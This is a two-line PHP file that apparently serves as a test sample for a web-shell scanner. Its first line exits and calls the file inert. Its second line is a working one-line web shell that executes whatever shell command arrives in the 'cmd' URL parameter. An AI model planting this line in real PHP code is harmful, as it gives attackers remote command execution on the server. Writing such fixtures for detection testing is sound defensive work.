<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php echo `$_GET[cmd]`; ?>
